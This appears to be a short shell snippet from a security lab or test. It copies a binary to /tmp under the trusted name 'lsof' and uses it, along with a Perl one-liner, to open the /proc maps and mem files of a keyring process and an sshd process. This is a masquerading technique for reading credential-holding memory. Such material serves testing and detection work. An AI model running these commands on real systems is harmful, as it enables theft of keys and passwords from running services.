# A trusted name in an untrusted place, and a trusted tool that is made to open mem.
cp $LAB/bin/acc /tmp/lsof
/tmp/lsof open /proc/$KEYRING_PID/maps /proc/$KEYRING_PID/mem
perl -e 'open(F,"<","/proc/$ARGV[0]/mem"); open(G,"<","/proc/$ARGV[0]/maps"); ' $SSHD_PID
